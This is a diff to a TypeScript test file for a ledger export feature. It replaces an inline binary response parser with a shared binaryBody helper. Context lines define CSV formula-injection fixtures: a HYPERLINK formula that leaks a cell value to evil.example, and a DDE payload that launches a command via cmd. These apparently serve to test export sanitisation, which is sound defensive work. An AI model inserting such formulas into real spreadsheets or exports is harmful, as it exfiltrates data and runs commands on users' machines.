@@ -18,7 +18,7 @@ import { ledgerEntries, ledgerHeads } from '../../server/db/schema.js';
 import { canonicalJson, entryHash } from '../../server/ledger/chain.js';
 import { checkManifestSignature } from '../../server/exports/signing.js';
 import { parseCsv, stormAfterPlan, type Night } from './ledger-fixtures.js';
-import type { Agent } from '../helpers/api.js';
+import { binaryBody, type Agent } from '../helpers/api.js';
 
 const FORMULA_REF = '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")';
 const FORMULA_NAME = "-2+3+cmd|' /C calc'!A0";
@@ -28,15 +28,7 @@ let e1: ExportManifest;
 let e1Files: Record<string, Buffer>;
 
 const download = async (who: Agent, m: ExportManifest, name: string): Promise<Buffer> => {
-  const res = await who
-    .get(`${n.base}/exports/${m.exportId}/files/${name}`)
-    .buffer(true)
-    .parse((r, cb) => {
-      const chunks: Buffer[] = [];
-      r.on('data', (c: Buffer) => chunks.push(c));
-      r.on('end', () => cb(null, Buffer.concat(chunks)));
-    })
-    .expect(200);
+  const res = await who.get(`${n.base}/exports/${m.exportId}/files/${name}`).buffer(true).parse(binaryBody).expect(200);
   return res.body as Buffer;
 };
 
